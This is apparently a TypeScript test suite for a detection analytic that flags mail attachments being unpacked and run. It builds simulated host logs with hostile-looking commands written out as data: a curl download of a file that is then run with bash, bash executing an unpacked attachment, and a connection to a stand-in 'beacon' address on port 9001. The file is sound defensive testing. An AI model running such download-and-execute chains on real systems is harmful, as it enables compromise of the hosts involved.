import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from './host-log.test-support.ts';
import { scanLog } from './stories.test-support.ts';

/** A message that a program fetches itself, and a tool of busybox on a file that came with one. */

const BEACON = '203.0.113.67';
const above = (alerts: Awaited<ReturnType<typeof scanLog>>, id: string) =>
  alerts.filter(alert => alert.analytic === id && alert.severity !== 'informational');

for (const [says, command, port] of [
  ['curl, by the address of a mailbox', '/usr/bin/curl -s imap://127.0.0.1/INBOX;MAILINDEX=1 -o work/m', null],
  ['a script, by its connection to an IMAP server', '/usr/bin/python3 fetch.py', 993],
  ['a script, by its connection to a POP3 server', '/usr/bin/perl pop.pl', 110],
] as const)
  test(`a message fetched by ${says}, taken apart and run, is an attachment`, async () => {
    const log = new HostLog();
    log.deliver();
    log.wait(MINUTE);
    const shell = log.shell('clerk');
    const fetcher = shell.run(command);
    if (port !== null) fetcher.connect('198.51.100.10', port);
    fetcher.write('/home/clerk/work/m');
    shell.run('/usr/bin/munpack work/m').read('/home/clerk/work/m').write('/home/clerk/work/setup');
    shell.run('/bin/bash work/setup').read('/home/clerk/work/setup').connect(BEACON, 9001);
    const alerts = await scanLog(log);
    assert.deepEqual(
      above(alerts, 'AN0656').map(alert => alert.severity),
      ['high'],
    );
    assert.deepEqual(above(alerts, 'AN0321'), []);
  });

test('a page fetched from a web server is a download still', async () => {
  const log = new HostLog();
  log.deliver();
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  const fetcher = shell.run('/usr/bin/curl -s http://203.0.113.80/x -o work/m').connect('203.0.113.80', 80);
  fetcher.write('/home/clerk/work/m');
  shell.run('/bin/bash work/m').read('/home/clerk/work/m').connect(BEACON, 9001);
  assert.deepEqual(above(await scanLog(log), 'AN0656'), []);
});

for (const tool of ['gzip', 'sha256sum', 'wc', 'vi'])
  test(`busybox ${tool} on an attachment runs nothing`, async () => {
    const log = new HostLog();
    const message = log.deliver();
    log.wait(MINUTE);
    const shell = log.shell('clerk');
    shell.run(`/bin/cp ${message.path} /tmp/m`).read(message.path).write('/tmp/m');
    const busybox = shell.run(`/bin/busybox ${tool} /tmp/m`).read('/tmp/m');
    if (tool === 'gzip') busybox.write('/tmp/m.gz');
    assert.deepEqual(
      (await scanLog(log)).filter(alert => alert.analytic === 'AN0656'),
      [],
    );
  });
